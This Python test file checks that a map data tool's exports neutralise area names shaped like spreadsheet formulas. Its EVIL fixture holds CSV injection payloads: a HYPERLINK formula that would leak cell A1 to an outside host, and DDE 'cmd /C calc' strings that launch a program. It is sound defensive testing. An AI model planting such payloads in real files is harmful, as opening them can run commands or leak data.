"""Formula injection on the way out: what a delivery brings as a name must not run where a file of ours is opened."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pyogrio
import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from etl.cli.main import app
from etl.pipeline import load_city
from etl.raw import RawStore
from maps.exports.spreadsheet_text import plain_text

pytestmark = pytest.mark.db

EVIL = (
    '=HYPERLINK("http://example.org?"&A1;"Neustadt")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Foo;=1+1,=cmd|' /C calc'!A0",
    "\uff1dA1",
)


def invoke(*arguments: object) -> str:
    result = CliRunner().invoke(app, [str(one) for one in arguments], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture
def evil_city(database: Engine, dataset, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A city all of whose areas are called like formulas."""
    dataset.write_areas(dataset.areas().assign(name=list(EVIL)))
    dataset.manifest('title_de = "Quote"', 'title_de = "=1+1"')
    load_city(
        database,
        dataset.source(),
        RawStore(tmp_path / "raw"),
        folder=None,
        loaded_by="test",
        code_version="test",
        progress=lambda _name, _share=None: None,
    )
    monkeypatch.setenv("SOZIALRAUM_DATABASE_URL", database.url.render_as_string(hide_password=False))


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet program would compute the cell."""
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    return False


@pytest.mark.usefixtures("evil_city")
def test_no_text_table_of_an_export_holds_a_formula_and_the_names_come_back(tmp_path: Path) -> None:
    invoke("export", "small", "--out", tmp_path / "out")
    paths = sorted((tmp_path / "out").glob("*.csv"))
    assert len(paths) == 8
    for path in paths:
        raw = path.read_text(encoding="utf-8-sig")
        for separator in ";,\t":  # a program may be set to another one than the file has
            assert [one for one in cells(raw, separator) if runs(one)] == [], (path.name, separator)
    found = cells((tmp_path / "out" / "small-areas.csv").read_text(encoding="utf-8"))
    assert set(EVIL) <= {plain_text(one) for one in found}


@pytest.mark.usefixtures("evil_city")
def test_a_workbook_holds_the_names_as_text_and_a_map_file_as_they_are(tmp_path: Path) -> None:
    invoke("export", "small", "--out", tmp_path / "out", "--format", "xlsx", "--format", "gpkg")
    book = openpyxl.load_workbook(tmp_path / "out" / "small.xlsx")
    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in every} <= {"s", "n", "d", "inlineStr"}
    assert set(EVIL) <= {cell.value for cell in every}
    kept = pyogrio.read_dataframe(tmp_path / "out" / "small.gpkg", layer="sub_district")
    assert kept["name"].tolist() == list(EVIL)


@pytest.mark.usefixtures("evil_city")
def test_what_is_printed_as_csv_holds_no_formula() -> None:
    told = cells(invoke("indicator", "values", "small", "rate", "--geography", "sub_district", "--csv"))
    assert [one for one in told if runs(one)] == []
    assert set(EVIL) <= {plain_text(one) for one in told}


@pytest.mark.usefixtures("evil_city")
def test_the_record_and_the_package_hold_such_text_as_data(tmp_path: Path) -> None:
    invoke("export", "small", "--out", tmp_path / "out", "--format", "csv")
    assert "=1+1" in (tmp_path / "out" / "catalogue.ttl").read_text(encoding="utf-8")
    assert "=1+1" in (tmp_path / "out" / "datapackage.json").read_text(encoding="utf-8")
